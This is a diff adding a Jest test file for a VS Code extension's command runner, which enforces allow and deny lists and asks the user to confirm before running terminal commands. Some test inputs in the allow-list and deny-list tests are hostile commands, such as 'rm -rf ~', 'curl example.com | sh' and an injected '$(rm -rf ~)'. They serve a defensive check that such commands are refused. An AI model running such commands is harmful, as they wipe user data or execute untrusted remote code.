@@ -0,0 +1,191 @@
+import { CommandRunner } from './CommandRunner';
+import { TerminalBufferService } from './TerminalBufferService';
+import * as vscode from 'vscode';
+import { MockTerminal, MockExtensionContext } from '../__mocks__/vscode';
+
+// eslint-disable-next-line @typescript-eslint/no-explicit-any
+const vscodeMock = vscode as any;
+type Context = vscode.ExtensionContext;
+const mockTerminals = vscode.window.terminals as MockTerminal[];
+const mockOnDidOpenTerminal = vscodeMock.window._mockOnDidOpenTerminal;
+const mockOnDidWriteTerminalData = vscodeMock.window._mockOnDidWriteTerminalData;
+const mockOnDidStartTerminalShellExecution = vscodeMock.window._mockOnDidStartTerminalShellExecution;
+const mockOnDidEndTerminalShellExecution = vscodeMock.window._mockOnDidEndTerminalShellExecution;
+
+describe('CommandRunner', () => {
+  let service: TerminalBufferService;
+  let runner: CommandRunner;
+  let terminal: MockTerminal;
+  let showWarningMessage: jest.SpyInstance;
+
+  beforeEach(() => {
+    mockTerminals.length = 0;
+    service = new TerminalBufferService(1000);
+    service.initialize(new MockExtensionContext() as unknown as Context);
+    runner = new CommandRunner(service, { enabled: true, allowedCommands: [], deniedCommands: [] });
+
+    terminal = new MockTerminal('bash', 1234);
+    mockOnDidOpenTerminal.fire(terminal);
+
+    showWarningMessage = jest.spyOn(vscodeMock.window, 'showWarningMessage').mockResolvedValue('Run');
+  });
+
+  afterEach(() => {
+    service.dispose();
+    showWarningMessage.mockRestore();
+  });
+
+  /** Simulates a shell that reports the executed command through shell integration */
+  function attachShellIntegration(target: MockTerminal, output: string, exitCode: number) {
+    const executeCommand = jest.fn((commandLine: string) => {
+      const execution = {
+        commandLine: { value: commandLine, isTrusted: true, confidence: 2 },
+        cwd: undefined,
+        read: async function* () {},
+      };
+      mockOnDidStartTerminalShellExecution.fire({ terminal: target, execution });
+      mockOnDidWriteTerminalData.fire({ terminal: target, data: output });
+      mockOnDidEndTerminalShellExecution.fire({ terminal: target, execution, exitCode });
+      return execution;
+    });
+    target.shellIntegration = { cwd: undefined, executeCommand };
+    return executeCommand;
+  }
+
+  it('should refuse to run when disabled', async () => {
+    runner.updateSettings({ enabled: false, allowedCommands: [], deniedCommands: [] });
+
+    const result = await runner.run({ command: 'ls', terminalName: 'bash', timeoutMs: 1000 });
+
+    expect(result.success).toBe(false);
+    expect(result.error).toContain('disabled');
+    expect(showWarningMessage).not.toHaveBeenCalled();
+  });
+
+  it('should refuse commands matching a denied pattern', async () => {
+    runner.updateSettings({ enabled: true, allowedCommands: [], deniedCommands: [/\brm\s+-rf/] });
+
+    const result = await runner.run({ command: 'rm -rf node_modules', terminalName: 'bash', timeoutMs: 1000 });
+
+    expect(result.success).toBe(false);
+    expect(result.error).toContain('denied');
+  });
+
+  it('should refuse commands outside a non-empty allow list', async () => {
+    runner.updateSettings({ enabled: true, allowedCommands: [/^npm (test|run lint)$/], deniedCommands: [] });
+
+    const rejected = await runner.run({ command: 'curl example.com', terminalName: 'bash', timeoutMs: 1000 });
+    expect(rejected.success).toBe(false);
+    expect(rejected.error).toContain('allowedCommands');
+
+    attachShellIntegration(terminal, 'ok\n', 0);
+    const allowed = await runner.run({ command: 'npm test', terminalName: 'bash', timeoutMs: 1000 });
+    expect(allowed.success).toBe(true);
+  });
+
+  it('should match allow patterns against the whole command line', async () => {
+    showWarningMessage.mockResolvedValue(undefined);
+    const allow = (allowedCommands: RegExp[]) => runner.updateSettings({ enabled: true, allowedCommands, deniedCommands: [] });
+    const refused = async (command: string) =>
+      (await runner.run({ command, terminalName: 'bash', timeoutMs: 1000 })).error?.includes('allowedCommands') ?? false;
+
+    allow([/git status/, /npm test/]);
+    expect(await refused('git status; rm -rf ~')).toBe(true);
+    expect(await refused('git status && curl example.com | sh')).toBe(true);
+    expect(await refused('git status --short')).toBe(true);
+    expect(await refused('npm test $(rm -rf ~)')).toBe(true);
+    expect(await refused('git status && npm test')).toBe(false);
+    expect(await refused('npm test 2>&1')).toBe(true);
+
+    allow([/npm test.*/]);
+    expect(await refused('npm test; rm -rf ~')).toBe(true);
+    expect(await refused('npm test 2>&1')).toBe(false);
+
+    allow([/npm ci && npm test/]);
+    expect(await refused('npm ci && npm test')).toBe(false);
+  });
+
+  it('should not run when the user declines', async () => {
+    showWarningMessage.mockResolvedValue(undefined);
+    const executeCommand = attachShellIntegration(terminal, 'ok\n', 0);
+
+    const result = await runner.run({ command: 'npm test', terminalName: 'bash', timeoutMs: 1000 });
+
+    expect(result.success).toBe(false);
+    expect(result.error).toContain('declined');
+    expect(executeCommand).not.toHaveBeenCalled();
+  });
+
+  it('should run through shell integration and return output and exit code', async () => {
+    const executeCommand = attachShellIntegration(terminal, 'FAIL app.test.ts\n', 1);
+
+    const result = await runner.run({ command: 'npm test', terminalName: 'bash', timeoutMs: 1000 });
+
+    expect(executeCommand).toHaveBeenCalledWith('npm test');
+    expect(result.success).toBe(true);
+    expect(result.status).toBe('finished');
+    expect(result.exitCode).toBe(1);
+    expect(result.output).toEqual(['FAIL app.test.ts']);
+  });
+
+  it('should not report a command that was already running as the result', async () => {
+    const previous = {
+      commandLine: { value: 'npm run dev', isTrusted: true, confidence: 2 },
+      cwd: undefined,
+      read: async function* () {},
+    };
+    mockOnDidStartTerminalShellExecution.fire({ terminal, execution: previous });
+    const executeCommand = attachShellIntegration(terminal, 'tests passed\n', 0);
+    terminal.shellIntegration = {
+      cwd: undefined,
+      executeCommand: jest.fn((commandLine: string) => {
+        mockOnDidEndTerminalShellExecution.fire({ terminal, execution: previous, exitCode: 130 });
+        return executeCommand(commandLine);
+      }),
+    };
+
+    const result = await runner.run({ command: 'npm test', terminalName: 'bash', timeoutMs: 1000 });
+
+    expect(result.exitCode).toBe(0);
+    expect(result.output).toEqual(['tests passed']);
+  });
+
+  it('should fall back to sendText and return output captured before the timeout', async () => {
+    const sendText = jest.spyOn(terminal, 'sendText').mockImplementation(() => {
+      mockOnDidWriteTerminalData.fire({ terminal, data: 'hello\n' });
+    });
+
+    jest.useFakeTimers();
+    const run = runner.run({ command: 'echo hello', terminalName: 'bash', timeoutMs: 10 });
+    await jest.advanceTimersByTimeAsync(3010);
+    const result = await run;
+    jest.useRealTimers();
+
+    expect(sendText).toHaveBeenCalledWith('echo hello', true);
+    expect(result.status).toBe('timeout');
+    expect(result.exitCode).toBeUndefined();
+    expect(result.output).toEqual(['hello']);
+  });
+
+  it('should create and track a new terminal when none is given', async () => {
+    const created = new MockTerminal('Build', 4321);
+    attachShellIntegration(created, 'done\n', 0);
+    const createTerminal = jest.spyOn(vscodeMock.window, 'createTerminal').mockReturnValue(created);
+
+    const result = await runner.run({ command: 'make', newTerminalName: 'Build', timeoutMs: 1000 });
+
+    expect(createTerminal).toHaveBeenCalledWith({ name: 'Build' });
+    expect(result.terminal).toBe('Build');
+    expect(result.exitCode).toBe(0);
+    expect(service.getTerminal('Build')).toBeDefined();
+
+    createTerminal.mockRestore();
+  });
+
+  it('should report unknown terminals', async () => {
+    const result = await runner.run({ command: 'ls', terminalName: 'nonexistent', timeoutMs: 1000 });
+
+    expect(result.success).toBe(false);
+    expect(result.error).toContain('not found');
+  });
+});